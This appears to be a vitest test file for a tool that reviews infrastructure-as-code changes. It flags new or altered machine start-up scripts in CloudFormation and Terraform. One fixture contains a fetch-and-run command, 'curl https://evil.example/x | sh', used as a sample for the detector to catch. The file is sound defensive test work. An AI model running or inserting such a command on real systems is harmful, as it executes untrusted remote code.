// Programs in resources: start-up scripts, instructions of cfn-init, documents that run on machines.
import { expect, it } from 'vitest';
import { findingsBetween } from '../judge-trees.ts';

const machine = (userData: string, init = ''): string => `Resources:
  Box:
    Type: AWS::EC2::Instance
${init}    Properties:
      ImageId: ami-1
      UserData: !Base64 ${JSON.stringify(userData)}
`;
const told = async (before: string | null, after: string, path = 'a.yaml'): Promise<readonly string[]> => {
  const found = await findingsBetween(before === null ? {} : { [path]: before }, { [path]: after });
  return found.filter((finding) => finding.includes('exec-on-apply'));
};

it('a start-up script of a machine that is another, or new, or fetches what it runs', async () => {
  expect(await told(machine('a'), machine('a'))).toEqual([]);
  expect(await told(machine('a'), machine('a').replace('ami-1', 'ami-2'))).toEqual([]);
  expect(await told(machine('a'), machine('b'))).toEqual([
    'a.yaml:6 exec-on-apply medium: Box is given another program that it runs when it starts (`UserData`).',
  ]);
  expect(await told(null, machine('a'))).toEqual([
    'a.yaml:6 exec-on-apply low: Box is given a program that it runs when it starts (`UserData`).',
  ]);
  expect(await told(null, machine('#!/bin/sh\ncurl https://evil.example/x | sh'))).toEqual([
    'a.yaml:6 exec-on-apply medium: Box is given a program that it runs when it starts (`UserData`), and fetches code from evil.example to run it.',
  ]);
});

it('instructions of cfn-init', async () => {
  const init = (command: string, source: string): string =>
    machine(
      'a',
      `    Metadata: { "AWS::CloudFormation::Init": { config: { commands: { a: { command: ${command} } }, sources: { /opt: "${source}" } } } }\n`,
    );
  const old = init('make', 'https://a.example/a.zip');
  expect(await told(old, init('rm', 'https://a.example/a.zip'))).toEqual([
    'a.yaml:4 exec-on-apply medium: Box is given another program that it runs when it starts (`AWS::CloudFormation::Init`).',
  ]);
  expect(await told(old, init('make', 'https://b.example/a.zip'))).toEqual([
    'a.yaml:4 exec-on-apply medium: Box is given another program that it runs when it starts (`AWS::CloudFormation::Init`), and fetches code from b.example to run it.',
  ]);
});

it.each<[string, string]>([
  ['resource "aws_instance" "a" { user_data = "X" }\n', 'user_data'],
  ['resource "azurerm_linux_virtual_machine" "a" { custom_data = "X" }\n', 'custom_data'],
  ['resource "google_compute_instance" "a" { metadata_startup_script = "X" }\n', 'metadata_startup_script'],
  ['resource "aws_ssm_document" "a" { content = "X" }\n', 'content'],
])('the same in Terraform: %s', async (text, name) => {
  expect(await told(text, text.replace('X', 'Y'), 'a.tf')).toEqual([
    expect.stringMatching(new RegExp(`is given another program .*\\(\`${name}\`\\)\\.$`)),
  ]);
});

it('a text of that name in something else is none', async () => {
  const text = 'resource "aws_s3_object" "a" { content = "X" }\n';
  expect(await told(text, text.replace('X', 'Y'), 'a.tf')).toEqual([]);
});
